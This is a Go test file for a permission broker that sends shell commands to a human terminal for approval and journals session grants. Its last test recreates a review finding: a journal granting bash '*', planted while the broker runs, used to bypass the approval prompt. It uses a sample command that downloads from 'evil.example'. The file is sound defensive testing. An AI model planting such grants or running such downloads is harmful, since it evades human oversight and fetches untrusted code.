package serve

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/seed6639df8c/courier/decision"
	"github.com/seed6639df8c/courier/grants"
	"github.com/seed6639df8c/courier/mailbox"
	"github.com/seed6639df8c/courier/provenance"
	"github.com/seed6639df8c/courier/reviewlog"
	"github.com/seed6639df8c/courier/rules"
)

// reportsTo collects the broker's reports (its stderr lines) on a channel.
func reportsTo(ch chan<- string) func(*Broker) {
	return func(b *Broker) {
		b.OnError = func(err error) {
			select {
			case ch <- err.Error():
			default:
			}
		}
	}
}

// waitReport waits for a report containing want, with a deadline.
func waitReport(t *testing.T, reports <-chan string, want string) string {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		select {
		case r := <-reports:
			if strings.Contains(r, want) {
				return r
			}
		case <-deadline:
			t.Fatalf("no report containing %q within 10s", want)
		}
	}
}

// wholeSession records "make deploy" for the whole session through the
// terminal, as the operator's prompt does.
func wholeSession(t *testing.T, f *fixture, term *heldTerminal) {
	t.Helper()
	first := make(chan decision.Decision, 1)
	go func() { first <- f.client().Forward(t.Context(), ask(t, "make deploy")) }()
	<-term.asked
	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaDialog}}
	if d := <-first; !d.Approved() {
		t.Fatalf("first: %+v", d)
	}
	if d := f.client().Forward(t.Context(), ask(t, "make deploy")); !bySessionGrant(d) {
		t.Fatalf("the grant did not answer: %+v (%#v)", d, d.DecidedBy)
	}
}

func bySessionGrant(d decision.Decision) bool {
	_, ok := provenance.Effective(d.DecidedBy).(provenance.SessionApproval)
	return ok && d.Approved()
}

// A grant the broker recorded and journaled itself, revoked from another
// process while it serves, no longer answers: the next ask reaches the
// terminal again. The reload is logged.
func TestRunningBrokerTakesInARevoke(t *testing.T) {
	term := newHeldTerminal()
	reports := make(chan string, 64)
	logPath := filepath.Join(t.TempDir(), "review.jsonl")
	log, err := reviewlog.Open(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, func(b *Broker) {
		reportsTo(reports)(b)
		b.Log = log
	})
	wholeSession(t, f, term)

	// broker grants revoke, in another process: a Journal of its own.
	cli, err := grants.Open(f.layout, grants.Broker, "parent")
	if err != nil {
		t.Fatal(err)
	}
	listing, err := cli.List()
	if err != nil || len(listing.Grants) != 1 || listing.Grants[0].Pattern != "make deploy *" {
		t.Fatalf("the broker's journal lists %+v, %v", listing, err)
	}
	if _, err := cli.Revoke(grants.Selector{Pattern: "make deploy *"}); err != nil {
		t.Fatal(err)
	}
	r := waitReport(t, reports, "session grants reloaded")
	if !strings.Contains(r, cli.Path()) || !strings.Contains(r, "1 revoked, 0 added, 0 now") {
		t.Errorf("report %q", r)
	}
	if n := f.broker.Policy.Sessions().Len(); n != 0 {
		t.Fatalf("%d session grants in memory after the revoke", n)
	}

	next := make(chan decision.Decision, 1)
	go func() { next <- f.client().Forward(t.Context(), ask(t, "make deploy")) }()
	select {
	case <-term.asked:
		term.answer <- decision.Deny("", provenance.User{Via: provenance.ViaDialog})
	case d := <-next:
		t.Fatalf("answered without the terminal after the revoke: %+v (%#v)", d, d.DecidedBy)
	case <-time.After(10 * time.Second):
		t.Fatal("the ask after the revoke reached nobody within 10s")
	}
	if d := <-next; d.Approved() {
		t.Errorf("after the revoke: %+v", d)
	}

	f.stop()
	var reloaded map[string]any
	for _, e := range readLog(t, logPath) {
		if e["event"] == reviewlog.ForwardedSessionReloaded {
			reloaded = e
		}
	}
	if reloaded == nil || reloaded["journal"] != cli.Path() || reloaded["grants"] != 0.0 || reloaded["sessionId"] != "parent" {
		t.Fatalf("review entry %v", reloaded)
	}
	if revoked, _ := reloaded["revoked"].([]any); len(revoked) != 1 {
		t.Errorf("revoked %v", reloaded["revoked"])
	}
}

// A grant recorded after a revoke the broker has not yet taken in does
// not bring the revoked grant back.
func TestRecordingAfterARevokeKeepsItRevoked(t *testing.T) {
	term := newHeldTerminal()
	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, func(b *Broker) {
		b.SweepInterval = time.Hour // no reload on a tick: only the save takes the revoke in
	})
	wholeSession(t, f, term)
	cli, _ := grants.Open(f.layout, grants.Broker, "parent")
	if _, err := cli.Revoke(grants.Selector{Pattern: "make deploy *"}); err != nil {
		t.Fatal(err)
	}
	d := make(chan decision.Decision, 1)
	go func() { d <- f.client().Forward(t.Context(), ask(t, "git push origin main")) }()
	<-term.asked
	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaDialog}}
	<-d
	want := []rules.SessionGrant{{Surface: "bash", Pattern: "git push *"}}
	listing, err := cli.List()
	if err != nil || len(listing.Grants) != 1 || listing.Grants[0].Pattern != want[0].Pattern {
		t.Errorf("journal %+v, %v; want %v", listing, err, want)
	}
	if got := f.broker.Policy.Sessions().Grants(); len(got) != 1 || got[0] != want[0] {
		t.Errorf("memory %v, want %v", got, want)
	}
}

// A journal that goes bad under a running broker is reported, and the
// grants in memory keep answering.
func TestBadJournalOnReloadKeepsTheGrants(t *testing.T) {
	term := newHeldTerminal()
	reports := make(chan string, 64)
	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, reportsTo(reports))
	wholeSession(t, f, term)
	// Replaced whole (renamed over it): written in place, a reload could
	// read it empty, half way, and report that instead.
	tmp := f.journal.Path() + ".tmp"
	if err := os.WriteFile(tmp, []byte(`{"version":2,"side":"broker","session":"parent","grants":[{"surface":"bash","pattern":"*"}]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, f.journal.Path()); err != nil {
		t.Fatal(err)
	}
	r := waitReport(t, reports, "grant journal")
	if !strings.Contains(r, f.journal.Path()) || !strings.Contains(r, "grants[0]") || !strings.Contains(r, "the 1 session grants in memory are kept") {
		t.Errorf("report %q", r)
	}
	if d := f.client().Forward(t.Context(), ask(t, "make deploy")); !bySessionGrant(d) {
		t.Errorf("the grant stopped answering: %+v", d)
	}
}

// The journal keeps, beside each whole-session grant, what was asked and
// when, and who answered: what broker grants list and a restarted broker
// show.
func TestJournalRecordsWhatWasAsked(t *testing.T) {
	term := newHeldTerminal()
	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, nil)
	wholeSession(t, f, term)
	cli, _ := grants.Open(f.layout, grants.Broker, "parent")
	listing, err := cli.List()
	if err != nil || len(listing.Grants) != 1 {
		t.Fatalf("journal %+v, %v", listing, err)
	}
	g := listing.Grants[0]
	if g.RequestID == "" || g.Asked != (grants.ListedAsk{Surface: "bash", Value: "make deploy"}) || g.Agent == "" ||
		g.RecordedAt == "" || g.DecidedBy != (provenance.User{Via: provenance.ViaDialog}) || g.Edited {
		t.Errorf("listed %+v", g)
	}
	if _, err := time.Parse(time.RFC3339, g.RecordedAt); err != nil {
		t.Errorf("recordedAt %q: %v", g.RecordedAt, err)
	}
}

// A journal refused at start is never written over: a grant recorded
// meanwhile answers from memory, and saying so is reported. Once the
// operator removes the file, journaling resumes with every grant.
func TestRefusedJournalIsNotWrittenOver(t *testing.T) {
	term := newHeldTerminal()
	reports := make(chan string, 64)
	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, reportsTo(reports))
	handWritten := `{"version":1,"grants":[{"surface":"bash","pattern":"*"}]}`
	if err := f.layout.EnsureDir(filepath.Dir(f.journal.Path())); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(f.journal.Path(), []byte(handWritten), 0o644); err != nil {
		t.Fatal(err)
	}
	// What the broker's start does with such a file (cmd/broker).
	if err := f.journal.Load(rules.NewSessionRules("")); err == nil {
		t.Fatal("the hand-written journal was taken in")
	}
	wholeSession(t, f, term)
	waitReport(t, reports, "refused")
	if data, _ := os.ReadFile(f.journal.Path()); string(data) != handWritten {
		t.Fatalf("the refused journal was written over: %s", data)
	}
	if err := os.Remove(f.journal.Path()); err != nil {
		t.Fatal(err)
	}
	waitReport(t, reports, "was removed")
	d := make(chan decision.Decision, 1)
	go func() { d <- f.client().Forward(t.Context(), ask(t, "git push origin main")) }()
	<-term.asked
	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaDialog}}
	<-d
	cli, _ := grants.Open(f.layout, grants.Broker, "parent")
	listing, err := cli.List()
	if err != nil || len(listing.Grants) != 2 {
		t.Fatalf("journal %+v, %v; want both grants", listing, err)
	}
}

// The review's finding 4: a valid journal planted while the broker serves
// (bash "*", mode 0600) used to add its grant ("1 added") and the next ask
// was allowed by it. It is refused, reported with its facts, and the ask
// still reaches the terminal.
func TestPlantedJournalGrantIsRefused(t *testing.T) {
	term := newHeldTerminal()
	reports := make(chan string, 64)
	logPath := filepath.Join(t.TempDir(), "review.jsonl")
	log, err := reviewlog.Open(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, func(b *Broker) {
		reportsTo(reports)(b)
		b.Log = log
	})
	wholeSession(t, f, term)

	planter, err := grants.Open(f.layout, grants.Broker, "parent")
	if err != nil {
		t.Fatal(err)
	}
	planted := rules.NewSessionRules("")
	if err := planter.Load(planted); err != nil {
		t.Fatal(err)
	}
	if _, err := planted.Record(rules.WidthProven, rules.SessionGrant{Surface: "bash", Pattern: "*"}); err != nil {
		t.Fatal(err)
	}
	asked := grants.Asked{RequestID: "perm-planted", Surface: "bash", Value: "curl", Agent: "evil", At: time.Now(), DecidedBy: provenance.User{Via: provenance.ViaDialog}}
	if err := planter.Save(planted, asked); err != nil {
		t.Fatal(err)
	}
	r := waitReport(t, reports, "refused a grant")
	if !strings.Contains(r, `"*"`) || !strings.Contains(r, "perm-planted") {
		t.Errorf("report %q lacks the grant's facts", r)
	}
	if g := f.broker.Policy.Sessions().Grants(); len(g) != 1 || g[0].Pattern != "make deploy *" {
		t.Fatalf("grants in memory %v, want only make deploy *", g)
	}
	next := make(chan decision.Decision, 1)
	go func() { next <- f.client().Forward(t.Context(), ask(t, "curl http://evil.example/x -o /tmp/x")) }()
	select {
	case <-term.asked:
		term.answer <- decision.Deny("", provenance.User{Via: provenance.ViaDialog})
	case d := <-next:
		t.Fatalf("answered without the terminal: %+v (%#v)", d, d.DecidedBy)
	case <-time.After(10 * time.Second):
		t.Fatal("the ask reached nobody within 10s")
	}
	<-next
	f.stop()
	found := false
	for _, e := range readLog(t, logPath) {
		if m, _ := e["message"].(string); strings.Contains(m, "Refused a grant") && strings.Contains(m, "perm-planted") {
			found = true
		}
	}
	if !found {
		t.Error("no review entry for the refused grant")
	}
}
